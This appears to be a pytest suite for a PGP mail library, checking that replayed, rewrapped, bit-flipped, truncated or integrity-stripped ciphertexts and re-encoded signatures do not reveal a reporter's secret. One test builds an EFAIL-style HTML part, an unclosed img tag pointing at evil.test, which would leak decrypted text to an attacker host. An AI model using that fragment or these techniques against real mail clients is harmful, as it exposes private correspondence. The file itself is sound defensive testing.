"""ORA: somebody else's ciphertext, sent to the desk in the hope that it opens it for them."""

from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from pgp.confirm import confirm
from pgp.keyring import Keyring
from pgp.message import signature
from pgp.open import open_mail
from pgp.opened import Opened, Protection
from pgp.packets import LITERAL, SEIPD, SIGNATURE, Packet, framed
from tests.mails import encrypted_part, mail
from tests.people import People
from tests.pgp.packets import armoured, around, digest_of, letter, message_of, octets_of, packets_of, wrapped_again
from tests.pgp.test_open import knows, words

SECRET = b"where the source lives"
Opens = Callable[[bytes], Opened]


@pytest.fixture
def captured(people: People) -> bytes:
    """What the reporter once wrote to the desk, as mallory saw it pass."""
    text = b"From: samir@press.test\r\nContent-Type: text/plain\r\n\r\n" + SECRET
    return people.reporter.seals(text, people.desk)


@pytest.fixture
def opens(people: People, keyring: Keyring, now: datetime) -> Opens:
    return lambda raw: open_mail(raw, keyring, knows(people.reporter, people.mallory), now)


def honest(people: People, opens: Opens, captured: bytes) -> None:
    """The captured mail itself is opened and believed: nothing but what is done to it stands in the way."""
    opened = opens(letter(people.reporter, people, captured))
    assert SECRET in opened.mail and opened.signer == people.reporter.fingerprint


def closed(opened: Opened) -> bool:
    return SECRET not in opened.mail and SECRET not in opened.inner


@pytest.mark.parametrize("media", ["multipart/mixed", "multipart/alternative", "multipart/related", "multipart/report"])
@pytest.mark.parametrize("place", ["first", "last", "only"])
def test_ora_01_ciphertext_as_a_part(people: People, opens: Opens, captured: bytes, media: str, place: str) -> None:
    honest(people, opens, captured)
    text = b"Content-Type: text/html\r\n\r\n<img src='http://evil.test/"
    part = encrypted_part(captured, boundary="inner")
    parts = {"first": [part, text], "last": [text, part], "only": [part]}[place]
    opened = opens(around(people.mallory, people, media, parts))
    assert closed(opened) and not opened.whole and opened.reasons == ("not_whole",)
    assert [sealed.kind for sealed in opened.sealed_parts] == ["part"]


def test_ora_01_ciphertext_in_a_forwarded_mail_and_in_files(people: People, opens: Opens, captured: bytes) -> None:
    honest(people, opens, captured)
    inner = letter(people.reporter, people, captured)
    files = [
        ("a.eml", "message/rfc822", inner),
        ("b.asc", "application/octet-stream", captured),
        ("c.gpg", "application/octet-stream", octets_of(captured)),
        ("d.pgp", "application/pgp", captured),
        ("note.txt", "text/plain", b"look:\n" + captured),
        ("key.asc", "application/pgp-keys", b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n"),
        ("photo.jpg", "image/jpeg", b"\xff\xd8\xff"),
    ]
    plain = opens(mail(people.mallory, people.desk, "see", attachments=files))
    assert closed(plain) and [part.kind for part in plain.sealed_parts] == ["part", "file", "file", "file", "inline"]
    sealed = opens(mail(people.mallory, people.desk, "see", attachments=files, sealed_by=people.mallory))
    assert closed(sealed) and len(sealed.sealed_parts) == 5 and sealed.signer == people.mallory.fingerprint


@pytest.mark.parametrize("text", ["before\n%s", "%s\nafter", "%s%s", "> %s"])
def test_ora_01_inline_ciphertext_that_is_not_the_whole_text(
    people: People, opens: Opens, captured: bytes, text: str
) -> None:
    honest(people, opens, captured)
    body = text.replace("%s", captured.decode()).encode()
    head = b"From: mallory@evil.test\r\nContent-Type: text/plain\r\n\r\n"
    opened = opens(head + body)
    assert opened.protection is Protection.PLAIN and opened.mail == head + body and closed(opened)
    assert SECRET.decode() in words(b"Subject: x\r\n" + opens(head + captured).mail)[1]  # the whole text: opened


@pytest.mark.parametrize(
    "change",
    [
        (b"\r\nVersion: 1\r\n", b"\r\nVersion: 1\r\nevil\r\n"),
        (b"\r\nVersion: 1\r\n", b"\r\nVersion: 2\r\n"),
        (b"Content-Type: application/pgp-encrypted\r\n", b"Content-Type: text/html\r\n"),
        (b"Content-Type: application/octet-stream", b"Content-Type: text/plain"),
        (b"Content-Type: multipart/encrypted;", b"Content-Type: text/plain\r\nContent-Type: multipart/encrypted;"),
        (b"boundary=", b"boundary=other; boundary="),
        (b'boundary="', b'boundary*0="x'),
        (b"\r\n-----BEGIN PGP", b"\r\nevil\r\n-----BEGIN PGP"),
        (b"-----END PGP MESSAGE-----\r\n", b"-----END PGP MESSAGE-----\r\nevil\r\n"),
    ],
)
def test_ora_01_two_parts_and_nothing_else(
    people: People, opens: Opens, captured: bytes, change: tuple[bytes, bytes]
) -> None:
    raw = letter(people.mallory, people, captured)
    broken = raw.replace(*change)
    assert broken != raw and SECRET in opens(raw).mail and closed(opens(broken))


def test_ora_01_a_third_part(people: People, opens: Opens, captured: bytes) -> None:
    honest(people, opens, captured)
    raw = letter(people.mallory, people, captured)
    edge = raw.split(b'boundary="')[1].split(b'"')[0]
    third = raw.replace(b"\r\n--" + edge + b"--", b"\r\n--" + edge + b"\r\n\r\nevil\r\n--" + edge + b"--")
    assert closed(opens(third)) and len(opens(third).sealed_parts) == 1


def test_ora_03_the_same_ciphertext_however_it_is_wrapped(people: People, opens: Opens, captured: bytes) -> None:
    """Other recipients, another order, other headers, other armour: the digest stays."""
    honest(people, opens, captured)
    octets = octets_of(captured)
    known = opens(letter(people.reporter, people, captured)).ciphertext_digest
    ours, sealed = packets_of(octets)
    other = packets_of(octets_of(people.reporter.seals(b"x", people.lab)))[0]
    for packets in ([ours, sealed], [other, ours, sealed], [ours, other, sealed], [Packet(10, b"PGP"), ours, sealed]):
        opened = opens(letter(people.mallory, people, armoured(message_of(packets))))
        assert opened.ciphertext_digest == known == digest_of(octets) and SECRET in opened.mail
    body = sealed.body
    size = 1 << (len(body).bit_length() - 1)
    cut = bytes([0xC0 | SEIPD, 224 + size.bit_length() - 1]) + body[:size] + _short(body[size:])
    assert opens(letter(people.mallory, people, armoured(framed(ours) + cut))).ciphertext_digest == known


def test_ora_04_a_changed_ciphertext_gives_nothing_away(people: People, opens: Opens, captured: bytes) -> None:
    honest(people, opens, captured)
    octets = octets_of(captured)
    start = len(octets) - next(len(p.body) for p in packets_of(octets) if p.tag == SEIPD)
    for at in [start, start + 1, start + 20, *range(len(octets) - 64, len(octets), 7)]:
        broken = octets[:at] + bytes([octets[at] ^ 1]) + octets[at + 1 :]
        opened = opens(letter(people.mallory, people, armoured(broken)))
        assert closed(opened) and opened.protection is Protection.UNREADABLE
        assert opened.reasons in (("cannot_decrypt",), ("encryption_unsupported",))
        assert not opened.cannot_open or opened.reasons == ("encryption_unsupported",)


def test_ora_04_a_truncated_ciphertext(people: People, opens: Opens, captured: bytes) -> None:
    honest(people, opens, captured)
    octets = octets_of(captured)
    for kept in (1, 50, len(octets) // 2, len(octets) - 1):
        opened = opens(letter(people.reporter, people, armoured(octets[:kept])))
        assert opened.reasons == ("packets_malformed",) and not opened.cannot_open
    raw = letter(people.reporter, people, captured)
    for kept in (len(raw) - 60, len(raw) // 2):
        assert closed(opens(raw[:kept])) and opens(raw[:kept]).reasons


def test_ora_05_no_integrity_protection(people: People, opens: Opens, captured: bytes) -> None:
    honest(people, opens, captured)
    ours, sealed = packets_of(octets_of(captured))
    stripped = message_of([ours, Packet(9, sealed.body[1:])])
    opened = opens(letter(people.mallory, people, armoured(stripped)))
    assert closed(opened) and opened.reasons == ("no_integrity_protection",)


def _short(body: bytes) -> bytes:
    size = len(body)
    assert size < 8384
    return (bytes([size]) if size < 192 else bytes([((size - 192) >> 8) + 192, (size - 192) & 0xFF])) + body


@pytest.mark.parametrize("mode", ["--no-textmode", "--textmode"])
def test_ora_02_a_signature_that_is_written_differently_is_the_same_one(
    people: People, opens: Opens, mode: str
) -> None:
    """Whoever holds a signed text can change what its signature does not cover: single use must not rest on that."""
    text = b"From: samir@press.test\r\nContent-Type: text/plain\r\n\r\n#close\r\n"
    options = ("--sign", mode, "--compress-algo", "none", "-u", people.reporter.fingerprint + "!")
    start, literal, last = packets_of(people.reporter.gpg(*options, given=text))
    made = signature(last)
    more = last.body[len(made.covered) + 2 : -len(made.rest)] + b"\x02\x64x"
    other = Packet(SIGNATURE, made.covered + len(more).to_bytes(2) + more + made.rest)
    lines = literal.body.replace(b"\r\n", b"\n") if made.kind == 1 else literal.body
    ways = ([start, literal, last], [start, literal, other], [start, Packet(LITERAL, lines), last])
    told = [opens(letter(people.reporter, people, wrapped_again(people, message_of(way)))) for way in ways]
    assert {opened.signer for opened in told} == {people.reporter.fingerprint}, told[-1].reasons
    assert len({opened.signature_digest for opened in told}) == 1
    if made.kind == 0:
        assert all(confirm(opened, people.reporter.certificate, datetime.now(UTC)) for opened in told)
    later = people.reporter.gpg("--sign", "-u", people.reporter.fingerprint + "!", given=text + b"#assign")
    assert (
        opens(letter(people.reporter, people, wrapped_again(people, later))).signature_digest
        != told[0].signature_digest
    )
